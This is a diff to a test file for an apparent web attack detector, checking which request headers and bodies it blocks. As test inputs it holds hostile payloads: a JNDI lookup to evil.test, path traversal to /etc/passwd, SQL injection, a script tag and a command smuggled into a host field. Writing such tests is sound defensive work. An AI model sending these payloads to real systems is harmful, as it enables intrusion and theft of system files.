@@ -79,7 +79,35 @@ test('extractInputs: path, query with brackets, cookies, headers, JSON keys and 
   has('body', '$.profile.name', 'Ann');
   has('body', '$.profile.tags[0]', 'a');
   has('json-key', '$.__proto__', '__proto__');
-  assert.ok(!inputs.some((i) => i.name === 'authorization'));
+  // A bearer token is inspected for lookups and line breaks only.
+  assert.deepEqual(inputs.filter((i) => i.name === 'authorization'), [{ location: 'header-other', name: 'authorization', value: 'Bearer t' }]);
+});
+
+test('headers outside the full set: jndi, crlf and traversal only; a Basic user name fully', () => {
+  const d = compileDetector();
+  const verdict = (headers: Record<string, string>) => d.inspectRequest({ method: 'GET', path: '/', headers });
+  assert.ok(verdict({ 'x-correlation-id': '${jndi:ldap://evil.test/a}' }).blocked);
+  assert.ok(verdict({ 'accept-language': '../../../../etc/passwd' }).blocked);
+  // Other classes are not looked for there: no false positive on a header's own grammar.
+  assert.ok(!verdict({ 'if-none-match': `"1' OR '1'='1" --` }).blocked);
+  assert.ok(!verdict({ accept: '<script>alert(1)</script>' }).blocked);
+  assert.ok(!verdict({ authorization: 'Bearer ../../../../etc/passwd' }).blocked);
+  assert.ok(verdict({ authorization: 'Bearer ${jndi:ldap://evil.test/a}' }).blocked);
+  const basic = (s: string) => ({ authorization: `Basic ${Buffer.from(s).toString('base64')}` });
+  const v = verdict(basic("admin' OR 1=1--:pw"));
+  assert.ok(v.blocked);
+  assert.deepEqual(v.matches.map((m) => [m.class, m.location, m.name]), [['sqli', 'header', 'authorization']]);
+  // The password is not inspected (nor copied into an input).
+  assert.ok(!verdict(basic("alice:' OR 1=1--")).blocked);
+  assert.ok(!d.extract({ method: 'GET', path: '/', headers: basic('alice:secret') }).some((i) => i.value.includes('secret')));
+});
+
+test('a multipart label over a body without parts: inspected as JSON or raw text', () => {
+  const d = compileDetector();
+  const post = (body: string) => d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: 'multipart/form-data; boundary=x', body });
+  assert.ok(post('{"host":"8.8.8.8; cat /etc/passwd"}').blocked);
+  assert.ok(post('host=1;cat /etc/passwd').blocked);
+  assert.ok(!post('{"host":"8.8.8.8"}').blocked);
 });
 
 test('extractInputs: urlencoded, multipart and XML bodies', () => {
